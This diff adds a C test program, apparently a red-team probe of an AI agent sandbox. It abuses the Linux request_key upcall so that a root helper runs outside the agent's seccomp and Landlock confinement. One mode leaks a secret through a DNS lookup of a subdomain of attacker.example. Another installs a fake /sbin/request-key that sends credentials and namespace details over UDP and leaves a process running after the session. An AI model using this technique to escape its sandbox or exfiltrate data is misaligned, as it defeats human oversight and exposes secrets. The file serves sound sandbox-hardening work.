@@ -1,0 +1,179 @@
+/* ha12-keyreq: hostile review h-attack12, the kernel's request_key upcall.
+ *
+ * The agent makes no socket call at all: request_key(2) with a callout
+ * string makes the kernel, finding no such key, start /sbin/request-key as
+ * a usermode helper (full root, the initial user, pid, mount and network
+ * namespaces, no seccomp filter, no Landlock domain, not in the agent's
+ * tree) with the key's type and description and the callout string, all
+ * chosen by the agent (security/keys/request_key.c, call_sbin_request_key:
+ * no capability check upstream, as of v6.18.38). keyutils' stock
+ * /etc/request-key.conf hands type "dns_resolver" to /sbin/key.dns_resolver,
+ * which resolves the description through the host's resolver, so
+ * request_key("dns_resolver", "<secret>.attacker.example", "", ...) is a DNS
+ * query for the attacker's zone that no mediated call ever made.
+ *
+ *   ha12-keyreq user SECRET     request_key("user", "ha12:SECRET", "SECRET")
+ *   ha12-keyreq dns SECRET      request_key("dns_resolver",
+ *                               "SECRET.attacker.example", "") -- never on a
+ *                               host whose resolver reaches the Internet
+ *   ha12-keyreq install DEST    root service (guest cell): copies itself to
+ *                               /sbin/request-key as the stand-in helper
+ *                               (keyutils is not installed there), writes
+ *                               DEST to /etc/ha12-keyreq.dest, holds a UDP
+ *                               socket on 127.0.0.1:9998 (the guest's
+ *                               readiness test) and sleeps
+ *
+ * Helper mode (argv[0] ends in "request-key"): the stand-in for keyutils'
+ * request-key. It reads the description and the callout string through the
+ * authorisation key the kernel hands it, records its credentials and
+ * namespaces in /tmp/ha12/helper.log (when /tmp/ha12 exists), sends them as
+ * one UDP datagram to DEST:9999 (127.0.0.2 unless /etc/ha12-keyreq.dest
+ * says otherwise) and leaves a child that beats for 3 s, to show that it
+ * outlives whatever run asked for it. */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/keyctl.h>
+#include <netinet/in.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#define DEST_FILE "/etc/ha12-keyreq.dest"
+
+static long keyctl(long op, long a, long b, long c, long d)
+{
+	return syscall(SYS_keyctl, op, a, b, c, d);
+}
+
+static void link_of(const char *path, char *out, size_t len)
+{
+	ssize_t n = readlink(path, out, len - 1);
+
+	out[n > 0 ? n : 0] = '\0';
+}
+
+static int helper(int argc, char **argv)
+{
+	char desc[512] = "", callout[512] = "", net[64], pidns[64], user[64], msg[2048];
+	char dest[64] = "127.0.0.2";
+	long key, auth;
+	FILE *log = fopen("/tmp/ha12/helper.log", "a");
+	FILE *df = fopen(DEST_FILE, "r");
+
+	if (df) {
+		if (fscanf(df, "%63s", dest) != 1)
+			strcpy(dest, "127.0.0.2");
+		fclose(df);
+	}
+	if (argc < 3)
+		return 1;
+	key = strtol(argv[2], NULL, 10);
+	keyctl(KEYCTL_ASSUME_AUTHORITY, key, 0, 0, 0);
+	if (keyctl(KEYCTL_DESCRIBE, key, (long)desc, sizeof(desc) - 1, 0) < 0)
+		snprintf(desc, sizeof(desc), "describe:%s", strerror(errno));
+	auth = keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_REQKEY_AUTH_KEY, 0, 0, 0);
+	if (auth < 0 || keyctl(KEYCTL_READ, auth, (long)callout, sizeof(callout) - 1, 0) < 0)
+		snprintf(callout, sizeof(callout), "read:%s", strerror(errno));
+	link_of("/proc/self/ns/net", net, sizeof(net));
+	link_of("/proc/self/ns/pid", pidns, sizeof(pidns));
+	link_of("/proc/self/ns/user", user, sizeof(user));
+	snprintf(msg, sizeof(msg),
+		 "request-key helper pid %d ppid %d uid %d euid %d %s %s %s requester uid %s desc "
+		 "'%s' callout '%s'",
+		 getpid(), getppid(), getuid(), geteuid(), net, pidns, user,
+		 argc > 3 ? argv[3] : "?", desc, callout);
+	if (log) {
+		fprintf(log, "%s\n", msg);
+		fflush(log);
+	}
+	{
+		struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(9999)};
+		int s = socket(AF_INET, SOCK_DGRAM, 0);
+
+		inet_pton(AF_INET, dest, &sin.sin_addr);
+		if (sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin)) < 0 && log)
+			fprintf(log, "sendto %s: %s\n", dest, strerror(errno));
+		close(s);
+	}
+	if (fork() == 0) {
+		for (int i = 0; i < 6; i++) {
+			if (log) {
+				fprintf(log, "heartbeat %d pid %d ppid %d\n", i, getpid(), getppid());
+				fflush(log);
+			}
+			usleep(500 * 1000);
+		}
+		_exit(0);
+	}
+	return 1; /* the key stays uninstantiated: the agent gets ENOKEY */
+}
+
+static int install(const char *dest)
+{
+	char buf[65536];
+	int in = open("/proc/self/exe", O_RDONLY), out;
+	ssize_t n;
+	FILE *df;
+
+	mkdir("/sbin", 0755);
+	out = open("/sbin/request-key", O_WRONLY | O_CREAT | O_TRUNC, 0755);
+	if (in < 0 || out < 0) {
+		perror("install");
+		return 1;
+	}
+	while ((n = read(in, buf, sizeof(buf))) > 0)
+		if (write(out, buf, (size_t)n) != n)
+			return 1;
+	close(in);
+	close(out);
+	df = fopen(DEST_FILE, "w");
+	if (!df)
+		return 1;
+	fprintf(df, "%s\n", dest);
+	fclose(df);
+	{
+		struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(9998)};
+		int s = socket(AF_INET, SOCK_DGRAM, 0);
+
+		sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+		if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) != 0)
+			perror("bind");
+		printf("installed /sbin/request-key, helper destination %s:9999\n", dest);
+		fflush(stdout);
+		for (;;)
+			pause();
+	}
+}
+
+int main(int argc, char **argv)
+{
+	const char *mode = argc > 1 ? argv[1] : "user";
+	const char *arg = argc > 2 ? argv[2] : "agent-secret-0042";
+	size_t l = strlen(argv[0]);
+	char desc[256];
+	long rc;
+
+	if (l >= 11 && strcmp(argv[0] + l - 11, "request-key") == 0)
+		return helper(argc, argv);
+	if (strcmp(mode, "install") == 0)
+		return install(arg);
+	/* A session keyring of the agent's own, as `keyctl new_session` or a
+	 * login gives; one inherited from another uid is not searchable. */
+	if (getenv("HA12_SAME_SESSION") == NULL)
+		keyctl(KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0);
+	if (strcmp(mode, "dns") == 0) {
+		snprintf(desc, sizeof(desc), "%s.attacker.example", arg);
+		rc = syscall(SYS_request_key, "dns_resolver", desc, "", KEY_SPEC_PROCESS_KEYRING);
+	} else {
+		snprintf(desc, sizeof(desc), "ha12:%s", arg);
+		rc = syscall(SYS_request_key, "user", desc, arg, KEY_SPEC_PROCESS_KEYRING);
+	}
+	printf("agent uid %d: request_key(%s, %s) = %ld (%s)\n", getuid(), mode, desc, rc,
+	       rc < 0 ? strerror(errno) : "ok");
+	return 0;
+}
